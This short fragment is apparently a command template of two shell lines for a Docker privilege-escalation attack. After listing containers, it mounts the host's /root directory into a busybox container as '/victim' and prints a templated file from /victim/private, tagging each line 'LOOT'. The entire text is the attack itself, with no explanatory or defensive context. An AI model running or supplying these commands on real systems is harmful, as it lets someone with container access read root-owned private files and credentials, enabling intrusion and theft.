docker ps
docker run --rm -v /root:/victim busybox sed 's/^/LOOT /' /victim/private/{{ file }}
